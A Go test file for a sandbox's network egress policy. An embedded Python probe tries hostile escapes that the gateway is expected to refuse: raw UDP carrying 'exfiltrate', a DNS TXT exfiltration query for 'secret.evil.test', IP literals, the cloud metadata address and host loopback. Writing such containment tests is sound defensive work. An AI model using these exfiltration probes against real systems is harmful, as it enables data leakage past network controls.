package backend_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/sandcell/sandcell/internal/egress"
	"github.com/sandcell/sandcell/internal/netpolicy"
	"github.com/sandcell/sandcell/limits"
	"github.com/sandcell/sandcell/oci"
	"github.com/sandcell/sandcell/oci/backend"
)

// netProbe is the program of TestNetworkPolicy: it ignores proxy
// variables (raw sockets and urllib with no proxy) and prints one line per
// probe, "name ok ..." or "name refused ...". probeSource sets web and tls,
// the test servers' ports.
const netProbe = `
import socket, ssl, sys, urllib.request, struct
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
def probe(name, f):
    try:
        print(name, "ok", f())
    except Exception as e:
        print(name, "refused", type(e).__name__, e)
    sys.stdout.flush()
probe("http", lambda: opener.open("http://web.test:%s/" % web, timeout=10).read().decode())
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
probe("https", lambda: urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=ctx)).open("https://tls.test:%s/" % tls, timeout=10).read().decode())
probe("literal", lambda: socket.create_connection(("93.184.216.34", 80), timeout=5).close())
probe("loopback", lambda: socket.create_connection(("127.0.0.1", int(web)), timeout=5).close())
probe("unlisted", lambda: socket.getaddrinfo("evil.test", 80))
probe("private", lambda: socket.getaddrinfo("private.test", 80))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfiltrate", ("9.9.9.9", 53))
    s.settimeout(1)
    return s.recv(100)
probe("udp", udp)
def txt():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in "secret.evil.test".split(".")) + b"\0" + struct.pack(">HH", 16, 1)
    s.sendto(q, ("127.0.0.1", 53))
    s.settimeout(5)
    r = s.recv(512)
    rcode = r[3] & 15
    if rcode != 0:
        raise Exception("rcode %d" % rcode)
    return r
probe("txt", txt)
probe("budget", lambda: opener.open("http://web.test:%s/" % web, timeout=10).read().decode())
`

// TestNetworkPolicy: a run with a network policy (issue #40), on both
// paths of a runc run and through a warm pool (which runs it fresh), reaches the allowlisted names over HTTP and HTTPS
// (SNI; the gateway does not terminate TLS) with no proxy variable, and
// is refused, with the reason in the gateway's log: an IP literal (the
// host's loopback is the run's own, where nothing listens), an
// unlisted name, a name resolving to a private address (rebinding), raw
// UDP, a DNS TXT query for an unlisted name, a connection past the
// budget.
func TestNetworkPolicy(t *testing.T) {
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "plain-"+r.Host) }))
	defer web.Close()
	tls := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "tls-"+r.Host) }))
	defer tls.Close()
	wport, tport := urlPort(t, web.URL), urlPort(t, tls.URL)
	var pool *backend.Pool
	pooled := func(tb testing.TB) *testEnv {
		e, p := newPoolEnv(tb.(*testing.T), backend.PoolConfig{Size: 1})
		e.backend, e.runtime, pool = "pool", p, p
		return e
	}
	for _, mk := range []func(testing.TB) *testEnv{newTestEnv, newForkEnv, pooled} {
		e := mk(t)
		t.Run(e.backend, func(t *testing.T) {
			if e.backend != "pool" {
				netPolicyRun(t, e, wport, tport)
				return
			}
			// The pool has a container ready for the request's shape:
			// it must not serve the run with a policy (its network is
			// made for the run when it is prepared).
			plain := func() *oci.Request {
				return newRequest(t, "python", probeSource(wport, tport), limits.Set{})
			}
			warm(t, pool, plain)
			hits := pool.Stats().Hits
			netPolicyRun(t, e, wport, tport)
			if pool.Stats().Hits != hits {
				t.Errorf("a pooled container served the run with a policy")
			}
		})
	}
}

// netPolicyRun is one run of TestNetworkPolicy's probe on e.
func netPolicyRun(t *testing.T, e *testEnv, wport, tport string) {
	lo := []netip.Addr{netip.MustParseAddr("127.0.0.1")}
	gw, err := netpolicy.New(netpolicy.Config{
		Egress: egress.Config{Allow: []string{"web.test:" + wport, "tls.test:" + tport, "private.test:80"},
			Hosts: map[string][]netip.Addr{"web.test": lo, "tls.test": lo},
			Resolve: func(context.Context, string) ([]netip.Addr, error) {
				return []netip.Addr{netip.MustParseAddr("10.1.2.3")}, nil
			}},
		Budget: netpolicy.Budget{Conns: 2},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer gw.Close()
	res := e.run(t, "python", probeSource(wport, tport), limits.Set{}, func(r *oci.Request) { r.Network = gw })
	out := res.Stdout
	for _, want := range []string{
		"http ok plain-web.test:" + wport, "https ok tls-tls.test:" + tport,
		"literal refused", "loopback refused", "unlisted refused", "private refused", "udp refused", "txt refused", "budget refused",
	} {
		if !strings.Contains(out, want+"") {
			t.Errorf("stdout lacks %q:\n%s\nstderr: %s", want, out, res.Stderr)
		}
	}
	log := gw.Log()
	if log.Conns != 2 || log.BytesIn == 0 {
		t.Errorf("log counted %d connections, %d bytes in; want 2 and some", log.Conns, log.BytesIn)
	}
	var reasons []string
	for _, r := range log.Refusals() {
		reasons = append(reasons, r.Refused)
	}
	all := strings.Join(reasons, "\n")
	for _, want := range []string{
		"93.184.216.34 is an IP address the sandbox's DNS never handed out",
		"evil.test is not on the allowlist",
		"10.1.2.3",
		"raw UDP to 9.9.9.9:53 dropped",
		"TXT secret.evil.test",
		"budget",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("refusals lack %q:\n%s", want, all)
		}
	}
}

// probeSource is netProbe for the servers on ports web and tls.
func probeSource(web, tls string) string {
	return fmt.Sprintf("web, tls = %q, %q\n", web, tls) + netProbe
}

// urlPort is the port of a test server's URL.
func urlPort(t testing.TB, s string) string {
	t.Helper()
	u, err := url.Parse(s)
	if err != nil {
		t.Fatal(err)
	}
	_, p, err := net.SplitHostPort(u.Host)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestNetworkPolicyGVisor: gVisor runs are refused a network policy, with
// the reason, before anything starts (runsc has its own netstack; a tun of
// the host would need its host network mode).
func TestNetworkPolicyGVisor(t *testing.T) {
	e := newGVisorEnv(t)
	gw, err := netpolicy.New(netpolicy.Config{Egress: egress.Config{Allow: []string{"web.test:80"}}})
	if err != nil {
		t.Fatal(err)
	}
	defer gw.Close()
	r := newRequest(t, "python", "print(1)", limits.Set{})
	r.Network = gw
	if _, err := oci.Run(context.Background(), e.runtime, r); !errors.Is(err, oci.ErrInvalidRequest) || !strings.Contains(err.Error(), "gVisor") {
		t.Errorf("gVisor run with a network policy: %v, want a refusal naming gVisor", err)
	}
}

// TestNetworkPolicyHostileProbes: the hostile corpus's network probes
// (testdata/hostile) under a policy that names one test host. The run has
// a route now, so the answers differ from network mode none, but nothing
// leaves: every TCP connect to an address (TEST-NET-1, public resolvers,
// the metadata service) is reset by the gateway at once, each UDP datagram
// the kernel accepts is dropped by it (its log says so), IPv6 has no
// route, the host's loopback stays out of reach, the exfiltration lookup
// fails fast with no upstream query, and no connection was admitted.
// net_interfaces is left out: a tun and a default route are what a policy
// gives.
func TestNetworkPolicyHostileProbes(t *testing.T) {
	host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("the test host was reached: %s %s", r.Method, r.URL)
	}))
	defer host.Close()
	l4, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l4.Close()
	l6, err := net.Listen("tcp6", "[::1]:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l6.Close()
	abstract := "sandcell-netpolicy-" + strconv.Itoa(os.Getpid())
	la, err := net.Listen("unix", "@"+abstract)
	if err != nil {
		t.Fatal(err)
	}
	defer la.Close()
	for _, l := range []net.Listener{l4, l6, la} {
		go func() {
			if c, err := l.Accept(); err == nil {
				t.Errorf("a host listener %s accepted a connection", l.Addr())
				c.Close()
			}
		}()
	}
	e := newTestEnv(t)
	var lookups atomic.Int32
	for _, probe := range []struct {
		file string
		want []string
	}{
		{"net_dns.py", []string{"DNS_FAILED True", "fast"}},
		{"net_external.py", []string{"tcp 192.0.2.1:80 ECONNREFUSED\n", "tcp 1.1.1.1:53 ECONNREFUSED\n", "tcp 1.1.1.1:443 ECONNREFUSED\n",
			"tcp 169.254.169.254:80 ECONNREFUSED\n", "tcp 8.8.8.8:53 ECONNREFUSED\n", "tcp 2001:db8::1:80 ENETUNREACH\n", "udp 2001:db8::1:53 ENETUNREACH\n"}},
		{"net_host_loopback.py", []string{"connect host 127.0.0.1 ECONNREFUSED", "connect host ::1 ECONNREFUSED", "connect host abstract ECONNREFUSED", "own loopback ping"}},
	} {
		t.Run(probe.file, func(t *testing.T) {
			src, err := os.ReadFile(filepath.Join("../../testdata/hostile", probe.file))
			if err != nil {
				t.Fatal(err)
			}
			gw, err := netpolicy.New(netpolicy.Config{Egress: egress.Config{Allow: []string{"one.test:" + urlPort(t, host.URL)},
				Hosts: map[string][]netip.Addr{"one.test": {netip.MustParseAddr("127.0.0.1")}},
				Resolve: func(context.Context, string) ([]netip.Addr, error) {
					lookups.Add(1)
					return nil, errors.New("no upstream DNS in this test")
				}}})
			if err != nil {
				t.Fatal(err)
			}
			defer gw.Close()
			res := e.run(t, "python", string(src), limits.Set{}, func(r *oci.Request) {
				r.Network = gw
				r.Env = append(r.Env, "HOST_PORT="+urlPort(t, "http://"+l4.Addr().String()), "HOST_PORT6="+urlPort(t, "http://"+l6.Addr().String()),
					"HOST_ABSTRACT="+abstract)
			})
			for _, want := range probe.want {
				if !strings.Contains(res.Stdout, want) {
					t.Errorf("stdout lacks %q:\n%s\nstderr: %s", want, res.Stdout, res.Stderr)
				}
			}
			if strings.Contains(res.Stdout, "SLOW") {
				t.Errorf("a probe waited for an answer:\n%s", res.Stdout)
			}
			log := gw.Log()
			// A UDP datagram the kernel sent ("ok ESCAPED" to the probe)
			// must be one the gateway dropped.
			for _, line := range strings.Split(res.Stdout, "\n") {
				f := strings.Fields(line)
				if len(f) >= 3 && f[0] == "udp" && f[2] == "ok" {
					if !slices.ContainsFunc(log.Refusals(), func(e netpolicy.Entry) bool {
						return strings.Contains(e.Refused, "raw UDP to "+f[1]+" dropped")
					}) {
						t.Errorf("%q left without the gateway's refusal: %+v", line, log)
					}
				} else if strings.Contains(line, "ESCAPED") {
					t.Errorf("escaped: %q", line)
				}
			}
			if log.Conns != 0 {
				t.Errorf("the gateway admitted %d connections: %+v", log.Conns, log)
			}
		})
	}
	if n := lookups.Load(); n != 0 {
		t.Errorf("the gateway asked an upstream resolver %d times", n)
	}
}
